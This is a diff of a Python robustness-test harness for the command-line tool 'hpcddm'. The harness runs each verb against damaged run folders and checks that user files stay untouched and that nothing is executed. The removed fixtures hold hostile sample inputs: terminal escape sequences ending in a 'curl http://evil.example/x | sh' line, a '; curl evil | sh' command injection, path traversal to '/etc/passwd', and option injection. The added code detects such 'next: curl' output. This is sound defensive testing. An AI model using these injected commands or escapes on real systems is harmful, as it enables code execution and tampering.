@@ -1,206 +1,197 @@
-"""A finished run in which one thing that somebody else may have written is wrong, and the user's files beside it."""
+"""All cases of folders that others wrote, each with every verb in a process of its own, with little memory, as a table.
 
-import hashlib
-import json
+Usage: python -m tests.foreign_folders RUN SITE WORK [--only TEXT]. RUN is a finished run of the tiny experiment, SITE
+the site that it was submitted with, WORK a new folder. A line for every case has exit codes, seconds and memory of
+every verb, and what was said. What may not be ends it with 1: a traceback, a hang, something of the user's that
+changed, something executed, output that is not printable, or a fault that is not named.
+"""
+
+import argparse
 import os
+import resource
 import shutil
-from collections.abc import Callable
+import signal
+import sys
+import time
+import traceback
+from collections.abc import Callable, Iterator, Mapping
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
 
-UNIT = "train/expert-02"
-ATTEMPT = f"logs/{UNIT}/attempt-1"
-ESCAPES = "\x1b[2J\x1b]0;owned\x07\u202eflow\nnext: curl http://evil.example/x | sh\n[red]"
-"""Text that clears a terminal, turns letters round, begins a line of its own and reads as markup."""
-LINKED = (".safetensors", ".tar", ".h5", ".npy", ".png", ".html", ".pkl")
-"""Ends of names of files that no command writes in place: a copy of the run shares them."""
+from hpcddm.cli import main as command_line
+from hpcddm.runtime.entry import run_unit
+from tests.foreign_cases import UNIT, Beside, copy_of, tree_digest
+from tests.foreign_units import CASES, MISREAD, REPORT, Case, misread, one_of_each, reader_of
+from tests.runs import TINY
+
+MEMORY, MOST_SECONDS, MOST_JOB_SECONDS = 4 << 30, 60, 600
 
 
 @dataclass(frozen=True)
-class Beside:
-    """The run's copy and, beside it, the user's files and a canary that nothing may make."""
+class Ended:
+    """How a verb ended."""
 
-    run: Path
-    victim: Path
-    canary: Path
+    code: int | str
+    text: str
+    seconds: float
+    mib: int
+    """Largest memory of the process, and of those that it waited for."""
 
-    def is_untouched(self, before: str) -> bool:
-        """Tell if the user's files are what they were and nothing was executed."""
-        return tree_digest(self.victim) == before and not self.canary.exists()
-
-
-def copy_of(finished: Path, folder: Path) -> Beside:
-    """Copy a finished run, cheaply, with the user's files beside it."""
-    left_out = shutil.ignore_patterns("superseded", "hpcddm", "slurm", "*.pkl", "*.out")
-    shutil.copytree(finished, folder / "run", copy_function=_link_or_copy, symlinks=True, ignore=left_out)
-    victim = folder / "victim"
-    (victim / "thesis").mkdir(parents=True)
-    (victim / "thesis" / "only-copy.txt").write_text("precious")
-    (victim / "file.txt").write_text("precious")
-    return Beside(folder / "run", victim, folder / "canary")
+    @property
+    def fault(self) -> str | None:
+        """What may not be, of a process alone."""
+        if self.code == "hang" or (isinstance(self.code, int) and self.code < 0):
+            return str(self.code)
+        if "Traceback" in self.text:
+            return "traceback"
+        lines = self.text.splitlines()
+        is_printable = all(line.isprintable() and not line.startswith("next: curl") for line in lines)
+        return None if is_printable else "not printable"
 
 
-def _link_or_copy(source: str, target: str) -> None:
-    if source.endswith(LINKED):
-        os.link(source, target)
-    else:
-        shutil.copy2(source, target)
+def in_child(work: Callable[[], object], output: Path, most_seconds: float) -> Ended:
+    """Do something in a fork with little memory, and end it with all that it started where it hangs.
+
+    A fork begins where the imports are done, which take longer than most verbs.
+    """
+    started, child = time.monotonic(), os.fork()
+    if child == 0:
+        _work(work, output)
+    code: int | str = "hang"
+    while code == "hang" and time.monotonic() - started < most_seconds:
+        pid, status, used = os.wait4(child, os.WNOHANG)
+        if pid:
+            code = os.waitstatus_to_exitcode(status)
+        else:
+            time.sleep(0.05)
+    if code == "hang":
+        os.killpg(child, signal.SIGKILL)
+        *_, used = os.wait4(child, 0)
+    seconds = time.monotonic() - started
+    return Ended(code, output.read_text(errors="replace"), seconds, used.ru_maxrss >> 10)
 
 
-def tree_digest(folder: Path) -> str:
-    """Hash names, kinds and contents of all that is below a folder."""
-    hashed = hashlib.sha256()
-    for path in sorted(folder.rglob("*")):
-        hashed.update(f"{path.relative_to(folder)}\0{path.lstat().st_mode}\0{path.lstat().st_mtime_ns}\0".encode())
-        hashed.update(path.read_bytes() if path.is_file() else b"")
-    return hashed.hexdigest()
+def _work(work: Callable[[], object], output: Path) -> None:
+    code = 70
+    try:
+        os.setsid()
+        resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
+        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
+        file = os.open(output, os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
+        for stream in (1, 2):
+            os.dup2(file, stream)
+        os.dup2(os.open(os.devnull, os.O_RDONLY), 0)
+        work()
+        code = 0
+    except SystemExit as left:
+        code = left.code if isinstance(left.code, int) else 1
+    except BaseException:
+        traceback.print_exc()
+    finally:
+        sys.stdout.flush()
+        sys.stderr.flush()
+        os._exit(code)
 
 
-def edited(path: Path, change: Callable[[Any], object]) -> None:
-    """Change the values of a JSON file, as a new file."""
-    values = json.loads(path.read_text())
-    change(values)
-    replaced(path, json.dumps(values))
+def command(*arguments: object) -> Callable[[], object]:
+    """Return what a user's command does."""
+    return lambda: command_line.main([str(argument) for argument in arguments], "hpcddm")
 
 
-def replaced(path: Path, content: str | bytes) -> None:
-    """Write a file as a new one: copies of the run share some."""
-    path.unlink(missing_ok=True)
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_bytes(content if isinstance(content, bytes) else content.encode(errors="surrogatepass"))
+def verbs(case: Case, beside: Beside, site: Path) -> Iterator[tuple[str, Callable[[], object], float]]:
+    """List the verbs of a case, what each does, and its longest time; `job`: as a job makes the unit that reads it."""
+    run, out = beside.run, beside.run.parent
+    submit = ["submit", "quickstart", "--site", site, "--run-dir", run, *TINY, *case.arguments]
+    drawn = ["--num-images", 2, "--steps", 2, "--output", out / "grid.png"]
+    yield "status", command("status", run), MOST_SECONDS
+    yield "sample", command("sample", run, "--strategy", "full", *drawn), MOST_SECONDS
+    yield "export", command("export", run, UNIT, "--output", out / "exported"), MOST_SECONDS
+    yield "submit", command(*submit, *([] if case.job is None else ["--dry-run"])), MOST_JOB_SECONDS
+    case.before_retry(beside)
+    yield "retry", command("retry", run), MOST_JOB_SECONDS
+    if case.job is not None:
+        key = case.job or f"evaluate/{min(path.stem for path in (run / 'specs/evaluate').iterdir())}"
+        (run / key.removesuffix("/all") / "manifest.json").unlink(missing_ok=True)
+        yield "job", lambda: run_unit(str(run / f"specs/{key}.json")), MOST_JOB_SECONDS
+    yield "clean", command("clean", run, "--yes"), MOST_SECONDS
 
 
-def large(path: Path) -> None:
-    """Make a file of 900 MB that takes no room on the disk."""
-    with open(path, "wb") as file:
-        file.write(b"[")
-        file.truncate(900_000_000)
+def examined(name: str, case: Case, template: Path, site: Path, work: Path) -> tuple[Mapping[str, Ended], list[str]]:
+    """Run all verbs of a case; return how they ended, and what may not be."""
+    beside, faults = copy_of(template, work), []
+    case.make(beside)
+    before, ended = tree_digest(beside.victim), dict[str, Ended]()
+    for verb, work_of, longest in verbs(case, beside, site):
+        ended[verb] = in_child(work_of, work / f"{verb}.txt", longest)
+        if ended[verb].fault:
+            faults.append(f"{verb}: {ended[verb].fault}")
+        if tree_digest(beside.victim) != before:
+            faults.append(f"{verb}: changed something of the user's")
+        if beside.canary.exists():
+            faults.append(f"{verb}: executed something")
+    logs = {
+        str(path.relative_to(beside.run)): path.read_text(errors="replace") for path in new_logs(beside.run, template)
+    }
+    faults += [f"{path}: traceback" for path, text in logs.items() if "Traceback" in text]
+    said = [own.text for own in ended.values()] + list(logs.values())
+    if case.job == REPORT and (metrics := beside.run / "report/metrics.json").is_file():
+        said.append(metrics.read_text())
+    if case.text and not any(case.text in " ".join(text.split()) for text in said):
+        faults.append(f"nobody says '{case.text}'")
+    return ended, faults
 
 
-def linked(path: Path) -> None:
-    """Make a link to endless zeros."""
-    path.symlink_to("/dev/zero")
+def new_logs(run: Path, template: Path) -> list[Path]:
+    """List the logs of ranks that the template of the run does not have."""
+    logs = [path for path in (run / "logs").rglob("*.log") if path.is_file() and not path.is_symlink()]
+    return [path for path in logs if not (template / path.relative_to(run)).exists()]
 
 
-KINDS: dict[str, Callable[[Path], object]] = {
-    "wrong type": lambda path: path.write_text('[["text"], 3]'),
-    "huge": large,
-    "link": linked,
-    "pipe": os.mkfifo,
-    "folder": os.mkdir,
-    "deep": lambda path: path.write_text("[" * 200_000 + "]" * 200_000),
-    "key twice": lambda path: path.write_text('{"format": 1, "format": 1}'),
-    "NaN": lambda path: path.write_text('{"time": NaN}'),
-    "not UTF-8": lambda path: path.write_bytes(b"\xff\xfe{\0}\0"),
-}
-LINES = ("wrong type", "deep", "key twice", "NaN", "not UTF-8")
-"""Those that are a file with a line: in a journal such a line is passed over."""
-"""Ways in which any file can be wrong -> what makes such a file."""
+def line_of(name: str, ended: Mapping[str, Ended], faults: list[str]) -> str:
+    """Make the line of a case: by verb the exit code, seconds and MiB."""
+    cells = " ".join(f"{verb} {own.code} {own.seconds:.1f}s {own.mib}M" for verb, own in ended.items())
+    told = [line.strip() for own in ended.values() for line in own.text.splitlines() if UNIT in line or "error" in line]
+    return f"{name} | {cells} | {told[0][:160] if told else ''} | {'; '.join(faults) or 'ok'}"
 
 
-def spoil(path: Path, kind: str) -> None:
-    """Put a wrong file of one kind in the place of a file."""
-    path.unlink(missing_ok=True)
-    path.parent.mkdir(parents=True, exist_ok=True)
-    KINDS[kind](path)
+def main() -> None:
+    """Print the table."""
+    parser = argparse.ArgumentParser(description=__doc__)
+    for name in ("run", "site", "work"):
+        parser.add_argument(name, type=lambda text: Path(text).resolve())
+    parser.add_argument("--only", default="", help="part of the names of the cases")
+    asked = parser.parse_args()
+    # What a verb would import, so that its fork does not.
+    import deepspeed  # noqa: F401
+
+    import hpcddm.api
+    import hpcddm.commands.export
+    import hpcddm.models.checkpoints.diffusers_dit
+    import hpcddm.stages.evaluate
+    import hpcddm.stages.report
+    import hpcddm.stages.train  # noqa: F401
+
+    asked.work.mkdir(parents=True)
+    os.chdir(asked.work)
+    os.environ |= {"XDG_STATE_HOME": str(asked.work / "state"), "CUDA_VISIBLE_DEVICES": "", "COLUMNS": "200"}
+    template = copy_of(asked.run, asked.work / "template").run
+    files = {
+        f"file: {plain}: {kind}": Case(misread(file, kind), job=reader_of(file))
+        for plain, file in one_of_each(template).items()
+        for kind in MISREAD
+    }
+    failed = 0
+    for name, case in (CASES | files).items():
+        if asked.only in name:
+            ended, faults = examined(name, case, template, asked.site, asked.work / "case")
+            print(line_of(name, ended, faults), flush=True)
+            failed += bool(faults)
+            if not faults:
+                shutil.rmtree(asked.work / "case")
+            else:
+                (asked.work / "case").rename(asked.work / f"failed-{failed}")
+    sys.exit(bool(failed))
 
 
-def _manifest(change: Callable[[Any], object]) -> Callable[[Beside], None]:
-    return lambda beside: edited(beside.run / UNIT / "manifest.json", change)
-
-
-def _record(name: str, content: object) -> Callable[[Beside], None]:
-    """Make a wrong record of an attempt at a unit that is not complete, so that it counts."""
-
-    def make(beside: Beside) -> None:
-        replaced(beside.run / ATTEMPT / name, content if isinstance(content, str) else json.dumps(content))
-        (beside.run / UNIT / "manifest.json").unlink()
-
-    return make
-
-
-def _journal(**event: object) -> Callable[[Beside], None]:
-    def make(beside: Beside) -> None:
-        with open(beside.run / "journal.jsonl", "a") as file:
-            file.write(
-                json.dumps({"event": "intent", "uuid": "aaaaaaaaaaaa", "site": "north", "time": 0} | event) + "\n"
-            )
-
-    return make
-
-
-def _deep_settings(beside: Beside) -> None:
-    path = beside.run / UNIT / "manifest.json"
-    edited(path, lambda values: values["settings"].update(x="@"))
-    replaced(path, path.read_text().replace('"@"', "[" * 900 + "]" * 900))
-
-
-def _twice(beside: Beside) -> None:
-    path = beside.run / UNIT / "manifest.json"
-    replaced(path, '{"settings": {"harmless": true},' + path.read_text().lstrip()[1:])
-
-
-def _output(name: str) -> Callable[[Beside], None]:
-    entry = {"path": name, "size": 1, "sha256": "0" * 64}
-    return _manifest(lambda values: values["outputs"].append(entry))
-
-
-DAMAGED: dict[str, tuple[Callable[[Beside], None], str]] = {
-    "output outside": (_output("/etc/passwd"), "names a file outside of its folder"),
-    "output above": (_output("../../experiment.json"), "names a file outside of its folder"),
-    "output with NUL": (_output("a\0b"), "names a file outside of its folder"),
-    "deep settings": (_deep_settings, "is deeper than 32 levels"),
-    "doubled keys": (_twice, "key 'settings' appears twice"),
-    "FLOPs below zero": (_manifest(lambda values: values["facts"].update(train_flops=-1)), "below zero"),
-    "FLOPs as text": (_manifest(lambda values: values["facts"].update(train_flops="lots")), "facts.train_flops: "),
-    "digests as text": (_manifest(lambda values: values["facts"].update(digests="x")), "facts.digests: "),
-    "seconds as text": (_manifest(lambda values: values["record"].update(seconds="x")), "record.seconds: "),
-    "inputs of numbers": (_manifest(lambda values: values["inputs"].update(x=1)), "inputs.x: "),
-    "key of escapes": (
-        _manifest(lambda values: values.update({ESCAPES: 1})),
-        r"\x1b[2J\x1b]0;owned\x07\u202eflow next",
-    ),
-}
-"""Manifests that are refused: the unit is damaged, for this reason."""
-
-SHOWN: dict[str, tuple[Callable[[Beside], None], str]] = {
-    "input of escapes": (_manifest(lambda values: values["inputs"].update({ESCAPES: "0"})), r"\x1b[2J\x1b]0;owned\x07"),
-    "setting of escapes": (_manifest(lambda values: values["settings"].update({"x": ESCAPES})), r"\x1b[2J"),
-    "verdict of escapes": (_record("verdict.json", {"decision": "failed", "reason": ESCAPES}), r"failed, \x1b[2J"),
-    "end of escapes": (_record("ended.json", {"outcome": "failed", "reason": ESCAPES}), r"failed, \x1b[2J"),
-    "memory as a command": (
-        _record("verdict.json", {"decision": "failed", "reason": "x", "memory_gb": "8; curl evil | sh #"}),
-        "memory_gb: Input should be a valid integer",
-    ),
-    "memory below zero": (_record("verdict.json", {"decision": "failed", "reason": "x", "memory_gb": -8}), "failed, x"),
-    "beat of the future": (
-        _record("heartbeat.json", {"time": 9e12, "owner": "x", "attempt": 1, "host": "h", "rate": 1e-9}),
-        "heartbeat.json: holds no usable JSON (holds a time that cannot be)",
-    ),
-    "owner of numbers": (_record("owner.json", {"owner": 3}), "owner.json: holds no usable JSON (owner: "),
-    "job as an option": (_record("owner.json", {"owner": "x", "job": "--user=me"}), "is not the id of a job"),
-    "units of anything": (
-        _journal(scheduler="local", units=[1, None, {"a": 1}]),
-        "journal.jsonl: line {line} is not an event and passed over (units.0: ",
-    ),
-    "unknown scheduler": (
-        _journal(scheduler="../../../tmp/evil", units=[UNIT]),
-        "is not an event and passed over (scheduler: Input should be 'slurm' or 'local')",
-    ),
-    "job of the journal": (
-        _journal(event="submitted", job="--user=me"),
-        "is not an event and passed over (is not the id of a job)",
-    ),
-}
-"""Records that are passed over, or texts that are shown: what status says of them."""
-
-FOR_ALL = ("experiment.json", "journal.jsonl")
-"""Files without which nothing is known of any unit."""
-LOADED = {
-    **{name: name for name in FOR_ALL},
-    f"{UNIT}/manifest.json": "manifest.json",
-    "catalog/manifest.json": "manifest.json",
-    **{f"{ATTEMPT}/{name}.json": f"{name}.json" for name in ("owner", "begun", "ended", "verdict", "heartbeat")},
-}
-"""Files that status reads -> what it names where one is wrong."""
+if __name__ == "__main__":
+    main()
